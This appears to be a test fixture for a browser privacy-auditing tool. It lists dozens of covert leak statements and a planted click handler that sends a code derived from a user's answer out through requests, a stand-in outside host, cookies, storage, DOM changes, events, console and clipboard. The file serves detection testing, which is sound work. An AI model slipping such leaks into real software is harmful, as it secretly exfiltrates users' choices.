/** Leaks to inject into the built script, and how the privacy tool must report each of them. */
import type { Where } from '../../tools/privacy/seen.ts';

export interface Leak {
  readonly name: string;
  /** Statements. `answer`: the text of the chosen answer. `code`: a number derived from it. `host`: the element. */
  readonly leak: string;
  readonly where: Where;
  /** The expected record. */
  readonly what: RegExp;
}

/** One per channel. Most leak a code that contains no text of the answer. */
export const LEAKS: readonly Leak[] = [
  { name: 'a request', leak: 'fetch("/told/fetch?" + code)', where: 'requests', what: /told\/fetch \?/ },
  {
    name: 'its answer in words',
    leak: 'fetch("/told/words?" + encodeURIComponent(answer))',
    where: 'requests',
    what: /told\/words/,
  },
  {
    name: 'a request that the page forbids',
    leak: 'fetch("https://elsewhere.invalid/" + code)',
    where: 'calls',
    what: /fetch .*elsewhere/,
  },
  {
    name: 'XMLHttpRequest',
    leak: 'const x = new XMLHttpRequest(); x.open("POST", "/told/xhr"); x.send(code)',
    where: 'requests',
    what: /told\/xhr {2}body/,
  },
  { name: 'a beacon', leak: 'navigator.sendBeacon("/told/beacon", code)', where: 'calls', what: /sendBeacon/ },
  { name: 'a picture', leak: 'new Image().src = "/told/image?" + code', where: 'requests', what: /told\/image/ },
  {
    name: 'a query on its own file',
    leak: 'new Image().src = import.meta.url + "?" + code',
    where: 'requests',
    what: /connection-map\.js \?.*differs/,
  },
  {
    name: 'a background of the page',
    leak: 'const s = new CSSStyleSheet(); s.replaceSync(`body { background: url(/told/sheet?${code}) }`); document.adoptedStyleSheets = [s]',
    where: 'dom',
    what: /the page’s style sheets/,
  },
  {
    name: 'WebSocket',
    leak: 'new WebSocket(location.origin.replace("http", "ws") + "/told/socket?" + code).onerror = null',
    where: 'calls',
    what: /new WebSocket/,
  },
  { name: 'EventSource', leak: 'new EventSource("/told/source?" + code)', where: 'calls', what: /new EventSource/ },
  {
    name: 'WebRTC',
    leak: 'new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + (9 + (code % 90)) }] })',
    where: 'calls',
    what: /new RTCPeerConnection/,
  },
  { name: 'a worker', leak: 'new Worker("data:text/javascript,//" + code)', where: 'calls', what: /new Worker/ },
  {
    name: 'a frame in its shadow root',
    leak: 'host.shadowRoot.append(Object.assign(document.createElement("iframe"), { src: "/told/frame?" + code }))',
    where: 'windows',
    what: /src .*told\/frame/,
  },
  { name: 'a message to the page', leak: 'postMessage(code, "*")', where: 'messages', what: /postMessage/ },
  {
    name: 'a message to other tabs',
    leak: 'new BroadcastChannel("told").postMessage(code)',
    where: 'messages',
    what: /told|postMessage/,
  },
  { name: 'a cookie', leak: 'document.cookie = "told=" + code', where: 'cookies', what: /127\.0\.0\.1 told/ },
  {
    name: 'a cookie by another name',
    leak: 'cookieStore.set("other", String(code))',
    where: 'cookies',
    what: /127\.0\.0\.1 other/,
  },
  { name: 'localStorage', leak: 'localStorage.setItem("told", code)', where: 'storage', what: /localStorage\.told/ },
  {
    name: 'sessionStorage, as a property',
    leak: 'sessionStorage.told = code',
    where: 'storage',
    what: /sessionStorage\.told/,
  },
  { name: 'a database', leak: 'indexedDB.open("told" + code)', where: 'storage', what: /database told/ },
  { name: 'a cache', leak: 'caches.open("told" + code)', where: 'storage', what: /cache told/ },
  {
    name: 'a file',
    leak: 'navigator.storage.getDirectory().then((all) => all.getFileHandle("told" + code, { create: true }))',
    where: 'storage',
    what: /getDirectory/,
  },
  { name: 'the address', leak: 'location.hash = code', where: 'address', what: /location \(/ },
  { name: 'history', leak: 'history.pushState({ code }, "")', where: 'address', what: /pushState/ },
  { name: 'the title', leak: 'document.title = code', where: 'address', what: /document\.title \(/ },
  { name: 'the window’s name', leak: 'window.name = code', where: 'address', what: /window\.name \(/ },
  { name: 'an attribute', leak: 'host.setAttribute("told", code)', where: 'dom', what: /setAttribute/ },
  {
    name: 'an attribute, taken away again',
    leak: 'host.dataset.told = code; setTimeout(() => delete host.dataset.told)',
    where: 'dom',
    what: /attribute data-told of connection-map \d/,
  },
  { name: 'a child', leak: 'host.append(String(code))', where: 'dom', what: /child of connection-map \d/ },
  {
    name: 'an element elsewhere',
    leak: 'document.body.insertAdjacentHTML("beforeend", `<i>${code}</i>`)',
    where: 'dom',
    what: /child of body <i>/,
  },
  { name: 'a global', leak: 'globalThis.told = { code }', where: 'globals', what: /window\.told/ },
  {
    name: 'a property of the element',
    leak: 'host.told = code',
    where: 'globals',
    what: /own properties of the element \(.*told: \d/,
  },
  {
    name: 'a getter of the element',
    leak: 'Object.defineProperty(host.constructor.prototype, "told", { get: () => code })',
    where: 'globals',
    what: /what the element gives .*told: \d/,
  },
  { name: 'a symbol', leak: 'host[Symbol(code)] = 1', where: 'globals', what: /own symbols of the element/ },
  {
    name: 'a property of something of the browser’s',
    leak: 'Array.prototype.told = code',
    where: 'globals',
    what: /Array\.prototype .*told: \d/,
  },
  {
    name: 'an event of its own',
    leak: 'host.dispatchEvent(new CustomEvent("connection-map-answer", { detail: code }))',
    where: 'events',
    what: /connection-map-answer/,
  },
  {
    name: 'more in the detail',
    leak: 'host.dispatchEvent(new CustomEvent("connection-map-reset", { detail: { code } }))',
    where: 'events',
    what: /connection-map-reset .*code/,
  },
  {
    name: 'a code in the detail',
    leak: 'host.dispatchEvent(new CustomEvent("connection-map-error", { detail: { code: "load-failed", message: code } }))',
    where: 'events',
    what: /connection-map-error .*differs/,
  },
  {
    name: 'a property of an event',
    leak: 'host.dispatchEvent(Object.assign(new CustomEvent("connection-map-reset", { detail: {} }), { code }))',
    where: 'events',
    what: /connection-map-reset \{detail: \{\}, code/,
  },
  {
    name: 'how often an event comes',
    leak: 'for (let i = 0; i < code % 50; i++) host.dispatchEvent(new CustomEvent("connection-map-reset", { detail: {} }))',
    where: 'events',
    what: /connection-map-reset .*differs/,
  },
  {
    name: 'a native event that no page needs',
    leak: 'host.shadowRoot.querySelector("input").dispatchEvent(new Event("change", { bubbles: true, composed: true }))',
    where: 'native',
    what: /change marked/,
  },
  {
    name: 'a press on a node without the marks',
    leak: 'const b = document.createElement("b"); host.shadowRoot.append(b); b.click(); b.remove()',
    where: 'native',
    what: /click of a node without the marks/,
  },
  { name: 'a console line', leak: 'console.debug(code)', where: 'console', what: /debug/ },
  {
    name: 'an error',
    leak: 'setTimeout(() => { throw new Error("told " + code); })',
    where: 'console',
    what: /error .*told \d/,
  },
  {
    name: 'a rejection',
    leak: 'Promise.reject(new Error("told " + code))',
    where: 'console',
    what: /unhandled rejection/,
  },
  { name: 'a mark', leak: 'performance.mark("told" + code)', where: 'performance', what: /mark told\d/ },
  {
    name: 'the clipboard',
    leak: 'navigator.clipboard.writeText(String(code)).catch(() => {})',
    where: 'clipboard',
    what: /writeText/,
  },
];

/** The code to append to the script. It leaks on the fifth choice, which differs between the two parents. */
export const planted = (leaks: readonly Leak[]): string => `
let choices = 0;
addEventListener('click', (event) => {
  const path = event.composedPath();
  const choice = path.find((one) => one.classList?.contains('choice'));
  if (!choice || ++choices !== 5) return;
  const host = path.find((one) => one.localName === 'connection-map');
  const answer = choice.textContent.trim();
  const code = [...answer].reduce((sum, one) => sum * 3 + one.codePointAt(0), 0) % 9973;
  for (const leak of [${leaks.map(({ leak }) => `() => { ${leak} }`).join(',\n')}]) leak();
}, true);`;
